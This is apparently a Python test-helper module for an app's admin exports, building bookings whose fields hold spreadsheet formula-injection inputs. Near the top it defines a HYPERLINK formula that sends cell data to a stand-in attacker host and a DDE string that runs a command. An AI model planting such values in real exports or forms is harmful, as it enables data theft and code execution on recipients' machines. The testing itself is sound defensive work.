"""Exports test data: formula-like names, the export form, bookings made through the form."""

from __future__ import annotations

import datetime
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from tests.helpers.service import booking_post, next_weekday
from workflows.models import Booking, Session
from workflows.services.scheduling import schedule_sessions

# Names a member of the public typed into the booking form, each one formula-like.
EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_SUPERVISEE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_SCHOOL = "-2+3 Academy"

EXPORTS = "/admin/exports/"


@dataclass
class ExportData:
    service: Any
    evil: Booking  # supervisor A, 60 minutes, £60
    hillside: Booking  # supervisor B, 90 minutes, £80
    held_a: Session
    late_a: Session  # cancelled 2 hours before the start
    booked_a: Session
    held_b: Session
    early_b: Session  # cancelled 3 days before the start
    date_from: datetime.date
    date_to: datetime.date

    def form(self, export: str, **extra: Any) -> dict[str, Any]:
        data = {
            "export": export,
            "date_from": self.date_from.isoformat(),
            "date_to": self.date_to.isoformat(),
            "supervisor": "",
            "school": "",
            "service": "",
            "state": "",
        }
        data.update(extra)
        return data


def book_through_form(client: Any, service: Any, **fields: Any) -> Booking:
    client.post(service.form_page.url, booking_post(service, **fields))
    return Booking.objects.get(supervisee_email=fields["work_email"])


def add_sessions(booking: Booking, days: list[int], minutes: int) -> list[Session]:
    return schedule_sessions(
        booking=booking,
        slots=[
            {"start": next_weekday(d), "duration_minutes": minutes, "location": "Room"}
            for d in days
        ],
    )


def prices(*sessions: Session) -> Decimal:
    return sum((s.price for s in sessions), Decimal("0"))
